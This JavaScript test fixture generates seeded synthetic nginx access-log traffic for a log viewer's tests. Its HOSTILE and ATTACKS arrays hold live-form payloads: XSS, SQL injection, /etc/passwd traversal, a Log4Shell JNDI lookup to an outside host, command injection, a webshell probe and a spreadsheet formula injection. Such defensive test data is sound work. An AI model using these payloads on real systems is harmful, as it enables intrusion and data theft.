// Seeded traffic for the page's tests: ordinary visitors, bots, attacks, and text that tries to break the page.

/** A small seeded generator (mulberry32): the same seed gives the same traffic. */
export function random(seed) {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

const PATHS = [
  '/',
  '/pricing',
  '/docs/start',
  '/docs/format/nginx',
  '/blog/2026/reading-logs',
  '/item/1042',
  '/item/87',
  '/search',
  '/login',
  '/cart',
  '/api/v1/items',
  '/api/v1/session',
  '/feed.xml',
  '/产品/列表',
  '/static/app.4f1c.js',
  '/static/site.css',
  '/img/logo.svg',
  '/img/hero.webp',
]
const HOSTS = [
  ['203.0.113.7', 'US', 64496, 'Example Carrier'],
  ['203.0.113.90', 'US', 64496, 'Example Carrier'],
  ['198.51.100.23', 'DE', 64500, 'Beispielnetz GmbH'],
  ['198.51.100.24', 'DE', 64500, 'Beispielnetz GmbH'],
  ['192.0.2.55', 'CN', 64511, '示例电信'],
  ['192.0.2.56', 'CN', 64511, '示例电信'],
  ['192.0.2.190', 'SG', 64502, 'Harbour Hosting'],
  ['2001:db8:40::1a', 'FR', 64503, 'Exemple Télécom'],
  ['2001:db8:41:7:8a2e:370:7334:1', 'JP', 64504, 'Rei Networks'],
  ['203.0.113.201', 'BR', 64505, 'Exemplo Fibra'],
  ['198.51.100.77', 'IN', 64506, 'Udaharan Broadband'],
  ['10.0.0.8', null, null, null],
  ['192.0.2.9', 'HK', 64507, 'Peak Transit'],
  ['203.0.113.44', 'NL', 64508, 'Voorbeeld Cloud'],
  ['198.51.100.130', 'RU', 64509, 'Primer Svyaz'],
]
const AGENTS = [
  [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36',
    'Chrome',
    'Windows',
    'desktop',
    null,
  ],
  [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/19.0 Safari/605.1.15',
    'Safari',
    'macOS',
    'desktop',
    null,
  ],
  [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) Mobile Safari',
    'Mobile Safari',
    'iOS',
    'mobile',
    null,
  ],
  [
    'Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0',
    'Firefox',
    'Linux',
    'desktop',
    null,
  ],
  [
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Googlebot',
    null,
    'bot',
    'search:Googlebot',
  ],
  ['Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)', 'GPTBot', null, 'bot', 'ai:GPTBot'],
  ['UptimeRobot/2.0', 'UptimeRobot', null, 'bot', 'monitor:UptimeRobot'],
  ['python-requests/2.32', 'python-requests', null, 'tool', 'tool:python-requests'],
]
export const HOSTILE = [
  '/search?q=<script>alert(document.domain)</script>',
  '/search?q="><img src=x onerror=alert(1)>',
  '/a\u202Egnp.exe\u202C/b\u200Bc',
  '/javascript:alert(1)',
  '/x?y=\\x1b[31mred\u0007\u0000end',
  `/long?q=${'A'.repeat(6000)}`,
  '/{{constructor.constructor("alert(1)")()}}',
  '/=cmd|" /C calc"!A0',
]
const ATTACKS = [
  [
    "/item/1042?id=1' UNION SELECT user,password FROM users-- -",
    'sqli',
    'lv-sqli-union lv-sqli-comment',
    0.9992,
    'blocked',
    403,
  ],
  ['/download?file=../../../../etc/passwd', 'traversal', 'lv-traversal-passwd', 0.9871, 'worked', 200],
  ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss', 'lv-xss-script', 0.9714, 'missed', 200],
  ['/?x=${jndi:ldap://203.0.113.66/a}', 'log4shell', 'lv-log4shell', 0.9996, 'missed', 404],
  ['/.env', 'sensitive', 'lv-sensitive-env', 0.9412, 'missed', 404],
  ['/.git/config', 'sensitive', 'lv-sensitive-git', 0.9327, 'blocked', 403],
  ['/cgi-bin/test.sh?c=;cat%20/etc/passwd', 'rce', 'lv-rce-unix', 0.9921, 'unknown', 500],
  ['/wp-login.php', 'brute_force', 'lv-login-many', 0.7612, 'missed', 401],
  ['/shell.php?cmd=id', 'webshell', 'lv-webshell-name', 0.9583, 'missed', 404],
]
const pick = (next, list, bias = 1) => list[Math.floor(next() ** bias * list.length)]

/** One event. `position` numbers it; `time` is in ms. */
export function event(next, position, time) {
  const [ip, country, asn, network] = pick(next, HOSTS, 1.8)
  const [user_agent, agent, os, device, bot] = pick(next, AGENTS, 1.5)
  const attack = next() < 0.04 ? pick(next, ATTACKS) : null
  const hostile = !attack && next() < 0.012
  const target = attack ? attack[0] : hostile ? pick(next, HOSTILE) : pick(next, PATHS, 1.7)
  const at = target.indexOf('?')
  const path = at < 0 ? target : target.slice(0, at)
  const status = attack ? attack[5] : next() < 0.9 ? 200 : pick(next, [304, 301, 404, 404, 500, 302, null])
  return {
    id: `/var/log/nginx/access.log@${position}`,
    time: new Date(time).toISOString().replace('Z', '000Z'),
    source: '/var/log/nginx/access.log',
    position,
    site: pick(next, ['shop.example', 'docs.example', null], 1.6),
    peer_ip: ip,
    user: null,
    method: next() < 0.88 ? 'GET' : pick(next, ['POST', 'POST', 'HEAD', 'PUT', 'OPTIONS']),
    target,
    path,
    query: at < 0 ? null : target.slice(at + 1),
    protocol: pick(next, ['HTTP/2.0', 'HTTP/1.1', 'HTTP/1.0'], 2),
    status,
    bytes: status === 304 ? 0 : Math.floor(200 + next() ** 3 * 90000),
    referer: hostile ? 'javascript:alert(2)' : next() < 0.3 ? 'https://search.example/?q=logs' : null,
    user_agent: hostile ? '<svg/onload=alert(3)>' : user_agent,
    duration_us: Math.floor(800 + next() ** 4 * 900000),
    client_ip: ip,
    country,
    asn,
    network,
    agent,
    os,
    device,
    bot,
    route: path.replace(/\/\d+/g, '/{int}'),
    kind: /\.(js|css|svg|webp)$/.test(path) ? 'static' : path.startsWith('/api') ? 'api' : 'page',
    score: attack ? attack[3] : hostile ? 0.41 : next() ** 6 * 0.2,
    attack: attack ? attack[1] : null,
    rules: attack ? attack[2].split(' ') : [],
    outcome: attack ? attack[4] : null,
  }
}

/** `n` events over the days before `now`, oldest first, with the shape of days. */
export function history(seed, n, now, days = 30) {
  const next = random(seed)
  const times = []
  while (times.length < n) {
    const t = now - next() ** 1.6 * days * 86400000
    const hour = new Date(t).getUTCHours()
    if (next() < 0.35 + 0.65 * Math.sin(((hour - 4) / 24) * Math.PI) ** 2) times.push(t)
  }
  return times.sort((a, b) => a - b).map((t, i) => event(next, i * 217, t))
}
